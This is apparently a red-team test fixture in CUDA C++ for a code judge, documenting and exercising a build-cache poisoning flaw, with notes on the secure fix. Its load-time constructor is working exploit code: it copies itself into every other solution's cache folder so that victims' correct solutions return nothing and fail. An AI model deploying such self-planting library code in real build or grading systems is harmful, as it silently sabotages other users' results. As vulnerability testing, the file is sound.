// RED TEAM (CUDA C++), finding 3: under `judge run`, `rank` and `watch` every CUDA worker may write
// the whole build cache (<cache>/cuda, client.Worker._policy), so one solution replaces the
// libraries other solutions are judged with.
//
// What it does: transpose.  Its library's constructor (it runs inside the sandbox, at load) finds
// the cache from its own path (<cache>/cuda/<key>/<headers>/solution.so) and plants, under every
// OTHER key, a build folder named "!" (it sorts before the hex names, and cuda_build._cached takes
// the first folder whose headers match) holding a copy of itself and a deps.json of "{}" (no
// headers: it always matches).  When a planted copy is loaded - by the victim's next `judge run` or
// the next `judge rank` - it sees its folder is "!" and its solve() writes nothing: the victim's
// correct solution is now a wrong answer (it could as well be made slow, or fast and wrong in a way
// only the timed calls show; the constructor also runs in the victim's worker).  Loaded from its own
// folder it transposes correctly, so the attacker itself is accepted.
//
// What a secure judge must answer: the victim is still accepted (its own library, not a planted
// one): workers may not write other solutions' cache entries (build in the worker's scratch folder
// and let the judge install the result, or grant write access to <cache>/cuda/<key> alone), and
// the judge checks a library's sha256 that only it wrote before it hands the path to a worker.
// Insecure (current code): `judge run transpose solutions/transpose/naive.cu` accepted; then this
// file accepted; then naive.cu again: wrong_answer (the note says "found in the build cache").
//
// Check: pytest -m gpu tests/test_cuda_redteam_gpu.py -k cache_poison
//        (CPU: tests/test_cuda_redteam.py -k 'builds or planted'; the second needs nvcc)
#include <cuda_runtime.h>
#include <dirent.h>
#include <dlfcn.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>
#include <cstddef>
#include <cstring>
#include <string>

static bool planted = false;  // this is a copy under someone else's key

static std::string parent(const std::string& path) { return path.substr(0, path.rfind('/')); }
static std::string leaf(const std::string& path) { return path.substr(path.rfind('/') + 1); }

static bool copy_file(const std::string& from, const std::string& to) {
    int in = open(from.c_str(), O_RDONLY), out = open(to.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (in < 0 || out < 0) return false;
    char buffer[1 << 16];
    ssize_t n;
    while ((n = read(in, buffer, sizeof buffer)) > 0) write(out, buffer, n);
    close(in);
    close(out);
    return true;
}

__attribute__((constructor)) static void plant() {
    Dl_info info;
    if (!dladdr((void*)&plant, &info) || !info.dli_fname) return;
    std::string me = info.dli_fname, headers = parent(me), key = parent(headers), cache = parent(key);
    if (leaf(headers) == "!") {
        planted = true;
        return;
    }
    DIR* dir = opendir(cache.c_str());
    if (!dir) return;
    while (dirent* entry = readdir(dir)) {
        std::string name = entry->d_name;
        if (name[0] == '.' || name == leaf(key)) continue;
        std::string target = cache + "/" + name + "/!";
        mkdir(target.c_str(), 0755);
        int manifest = open((target + "/deps.json").c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0644);
        if (manifest < 0) continue;
        write(manifest, "{}", 2);
        close(manifest);
        if (copy_file(me, target + "/.solution.so")) rename((target + "/.solution.so").c_str(), (target + "/solution.so").c_str());
    }
    closedir(dir);
}

__global__ void transpose_naive(const float* __restrict__ input, float* __restrict__ output, int rows, int cols) {
    int col = blockIdx.x * blockDim.x + threadIdx.x;
    int row = blockIdx.y * blockDim.y + threadIdx.y;
    if (row < rows && col < cols) output[(size_t)col * rows + row] = input[(size_t)row * cols + col];
}

extern "C" int redteam_planted() { return planted; }  // for the CPU test

extern "C" void solve(const float* input, float* output, int rows, int cols) {
    if (planted) return;  // the victim's "library": computes nothing
    dim3 block(32, 8);
    dim3 grid((cols + block.x - 1) / block.x, (rows + block.y - 1) / block.y);
    transpose_naive<<<grid, block>>>(input, output, rows, cols);
}
